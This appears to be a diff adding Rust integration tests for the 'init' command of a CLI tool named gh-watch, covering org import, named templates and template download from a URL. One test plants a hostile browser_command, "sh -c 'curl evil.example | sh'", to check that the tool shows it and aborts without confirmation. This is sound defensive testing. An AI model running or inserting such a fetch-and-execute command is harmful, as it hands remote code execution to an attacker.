@@ -316,3 +316,196 @@ fn timeline_event_count(state_db_path: &Path) -> i64 {
 
     0
 }
+
+#[cfg(unix)]
+#[test]
+fn init_from_org_with_yes_writes_all_candidates() {
+    use std::os::unix::fs::PermissionsExt;
+
+    let dir = tempdir().unwrap();
+    let path = dir.path().join("config.toml");
+    let gh_path = dir.path().join("gh");
+    fs::write(
+        &gh_path,
+        r#"#!/usr/bin/env bash
+set -euo pipefail
+echo '[{"full_name":"acme/api","archived":false},{"full_name":"acme/old","archived":true},{"full_name":"acme/web","archived":false}]'
+"#,
+    )
+    .unwrap();
+    fs::set_permissions(&gh_path, fs::Permissions::from_mode(0o755)).unwrap();
+
+    let mut cmd = cargo_bin_cmd!("gh-watch");
+    cmd.env("GH_WATCH_GH_BIN", &gh_path)
+        .args(["init", "--from-org", "acme", "--yes", "--path"])
+        .arg(&path)
+        .assert()
+        .success()
+        .stdout(contains("(2 repositories)"));
+
+    let content = fs::read_to_string(&path).unwrap();
+    assert!(content.contains("name = \"acme/api\""));
+    assert!(content.contains("name = \"acme/web\""));
+    assert!(!content.contains("acme/old"));
+    assert!(!content.contains("owner/repo-one"));
+}
+
+#[test]
+fn init_from_org_conflicts_with_from_starred() {
+    let mut cmd = cargo_bin_cmd!("gh-watch");
+    cmd.args(["init", "--from-org", "acme", "--from-starred"])
+        .assert()
+        .failure()
+        .stderr(contains("cannot be used with"));
+}
+
+#[test]
+fn init_template_writes_the_named_template() {
+    let dir = tempdir().unwrap();
+    let path = dir.path().join("config.toml");
+
+    let mut cmd = cargo_bin_cmd!("gh-watch");
+    cmd.args(["init", "--template", "bots-filtered", "--path"])
+        .arg(&path)
+        .assert()
+        .success();
+
+    let content = fs::read_to_string(&path).unwrap();
+    assert!(content.contains("dependabot[bot]"));
+
+    let mut unknown = cargo_bin_cmd!("gh-watch");
+    unknown
+        .args(["init", "--template", "nope", "--force", "--path"])
+        .arg(&path)
+        .assert()
+        .failure()
+        .stderr(contains("unknown template: nope"));
+}
+
+#[test]
+fn init_list_templates_describes_each_template() {
+    let mut cmd = cargo_bin_cmd!("gh-watch");
+    cmd.args(["init", "--list-templates"])
+        .assert()
+        .success()
+        .stdout(contains("default"))
+        .stdout(contains("minimal"))
+        .stdout(contains("all-events"))
+        .stdout(contains("bots-filtered"))
+        .stdout(contains("team"));
+}
+
+#[cfg(unix)]
+fn write_stub_curl(dir: &Path, body: &str) -> PathBuf {
+    use std::os::unix::fs::PermissionsExt;
+
+    let path = dir.join("curl");
+    fs::write(
+        &path,
+        format!("#!/usr/bin/env bash\nset -euo pipefail\ncat <<'TOML'\n{body}TOML\n"),
+    )
+    .unwrap();
+    fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
+    path
+}
+
+#[cfg(unix)]
+#[test]
+fn init_template_url_writes_a_valid_downloaded_config() {
+    let dir = tempdir().unwrap();
+    let path = dir.path().join("config.toml");
+    let curl = write_stub_curl(
+        dir.path(),
+        "interval_seconds = 600\n\n[[repositories]]\nname = \"acme/api\"\n",
+    );
+
+    let mut cmd = cargo_bin_cmd!("gh-watch");
+    cmd.env("GH_WATCH_CURL_BIN", &curl)
+        .args([
+            "init",
+            "--template-url",
+            "https://example.com/gh-watch.toml",
+            "--yes",
+            "--path",
+        ])
+        .arg(&path)
+        .assert()
+        .success();
+
+    let content = fs::read_to_string(&path).unwrap();
+    assert!(content.contains("interval_seconds = 600"));
+}
+
+#[cfg(unix)]
+#[test]
+fn init_template_url_rejects_an_invalid_config() {
+    let dir = tempdir().unwrap();
+    let path = dir.path().join("config.toml");
+    let curl = write_stub_curl(dir.path(), "interval_seconds = \"often\"\n");
+
+    let mut cmd = cargo_bin_cmd!("gh-watch");
+    cmd.env("GH_WATCH_CURL_BIN", &curl)
+        .args([
+            "init",
+            "--template-url",
+            "https://example.com/gh-watch.toml",
+            "--path",
+        ])
+        .arg(&path)
+        .assert()
+        .failure()
+        .stderr(contains("is not a valid gh-watch config"));
+
+    assert!(!path.exists());
+}
+
+#[cfg(unix)]
+#[test]
+fn init_template_url_lists_commands_and_writes_nothing_unless_confirmed() {
+    let dir = tempdir().unwrap();
+    let path = dir.path().join("config.toml");
+    let curl = write_stub_curl(
+        dir.path(),
+        "[display]\nbrowser_command = \"sh -c 'curl evil.example | sh'\"\n\n[[repositories]]\nname = \"acme/api\"\n",
+    );
+
+    let mut cmd = cargo_bin_cmd!("gh-watch");
+    cmd.env("GH_WATCH_CURL_BIN", &curl)
+        .args([
+            "init",
+            "--template-url",
+            "https://example.com/gh-watch.toml",
+            "--path",
+        ])
+        .arg(&path)
+        .write_stdin("n\n")
+        .assert()
+        .success()
+        .stdout(contains(
+            "display.browser_command = sh -c 'curl evil.example | sh'",
+        ))
+        .stdout(contains("aborted"));
+
+    assert!(!path.exists());
+}
+
+#[test]
+fn init_template_url_rejects_plain_http() {
+    let dir = tempdir().unwrap();
+    let path = dir.path().join("config.toml");
+
+    let mut cmd = cargo_bin_cmd!("gh-watch");
+    cmd.args([
+        "init",
+        "--template-url",
+        "http://example.com/gh-watch.toml",
+        "--yes",
+        "--path",
+    ])
+    .arg(&path)
+    .assert()
+    .failure()
+    .stderr(contains("template URL must start with https://"));
+
+    assert!(!path.exists());
+}